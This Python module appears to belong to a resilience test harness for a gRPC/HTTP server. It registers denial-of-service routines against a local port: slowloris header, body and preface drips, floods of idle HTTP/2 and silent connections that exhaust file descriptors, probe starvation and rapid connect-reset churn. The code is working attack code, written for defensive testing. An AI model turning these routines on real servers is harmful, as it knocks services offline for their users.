"""Connections that cost their owner nothing and the server a descriptor or a place."""

import resource
import socket
import time

import http2
from registry import OTHER_PEER, SAME_PEER, attack

BOTH = (OTHER_PEER, SAME_PEER)
FEW_FILES = {resource.RLIMIT_NOFILE: 1024}


def _dead(s):
    try:
        return s.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def keep(target, port, n, begin=b"", drip=b"", every=1.0):
    """Keeps `n` connections open that say `begin`, then `drip` every so often; those that are closed are opened again."""
    held, next_drip, again = [], 0.0, 0
    while target.running():
        alive = [s for s in held if not _dead(s)]
        again, held = again + len(held) - len(alive), alive
        for _ in range(min(100, n - len(held))):
            try:
                s = socket.create_connection(
                    ("127.0.0.1", port), 0.5, source_address=(target.source, 0)
                )
                s.sendall(begin)
                s.setblocking(False)
                held.append(s)
            except OSError:
                break
        if drip and time.monotonic() >= next_drip:
            next_drip = time.monotonic() + every
            for s in held:
                try:
                    s.send(drip)
                except OSError:
                    continue
        time.sleep(0.05)


@attack("connections-idle", growth_mb=64, sources=BOTH, limits=FEW_FILES, honest=("infer", "livez"))
def idle(target):
    """Opens 560 HTTP/2 connections that only answer PINGs, to a server with 1,024 descriptors. Where idle ones live for ever, nobody
    else gets in."""
    held = []
    while target.running():
        held = [c for c in held if not c.closed]
        while len(held) < 560 and target.running():
            try:
                held.append(http2.Connection(target.port, target.source))
            except OSError:
                time.sleep(0.1)
                break
        for c in held:
            c.pump()
        time.sleep(0.1)


@attack(
    "connections-silent", growth_mb=64, sources=BOTH, limits=FEW_FILES, honest=("infer", "livez")
)
def silent(target):
    """Opens 1,200 connections to the gRPC port that do not even say the preface."""
    keep(target, target.port, 1200)


@attack(
    "connections-idle-operations",
    growth_mb=64,
    sources=BOTH,
    limits=FEW_FILES,
    honest=("infer", "livez", "readyz"),
)
def idle_operations(target):
    """Opens 1,200 connections to the operations port, which takes the descriptors that gRPC needs."""
    keep(target, target.ops, 1200)


@attack(
    "connections-idle-http1", growth_mb=64, limits=FEW_FILES, honest=("infer", "livez", "readyz")
)
def idle_http1(target):
    """The same with a first request that is answered: connections kept alive, not new ones."""
    keep(target, target.ops, 1200, b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n")


@attack("probes-starved", growth_mb=64, sources=BOTH, honest=("livez", "readyz", "infer"))
def probes_starved(target):
    """Opens 170 silent connections to the operations port, one more for each that is closed. Where /livez shares their places, an
    orchestrator kills a healthy server, again and again."""
    keep(target, target.ops, 170)


@attack("slowloris-headers", growth_mb=64, sources=BOTH, honest=("livez", "readyz", "infer"))
def slow_headers(target):
    """Sends the headers of 300 HTTP/1.1 requests one line a second: none stands still, none ends."""
    keep(target, target.ops, 300, b"GET /livez HTTP/1.1\r\nHost: x\r\n", b"X-A: b\r\n")


@attack("slowloris-body", growth_mb=64, honest=("livez", "readyz", "infer"))
def slow_body(target):
    """Announces bodies of 1 MB and sends them a byte a second."""
    keep(
        target,
        target.ops,
        300,
        b"POST /livez HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n",
        b"x",
    )


@attack("slowloris-grpc", growth_mb=64, honest=("infer", "livez"))
def slow_preface(target):
    """Sends HTTP/2's preface to the gRPC port a byte a second, and never SETTINGS."""
    keep(target, target.port, 300, http2.PREFACE[:3], http2.PREFACE[3:4], every=2.0)


@attack("connections-churn", growth_mb=96, processes=2, honest=("infer", "livez"))
def churn(target):
    """Connects, says the preface and goes, as fast as it can; the half of it with a reset."""
    n = 0
    while target.running():
        try:
            s = socket.create_connection(
                ("127.0.0.1", target.port), 0.5, source_address=(target.source, 0)
            )
            s.sendall(http2.PREFACE + http2.settings())
            if n % 2:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            s.close()
            n += 1
        except OSError:
            time.sleep(0.01)
    target.note(f"{n} connections")
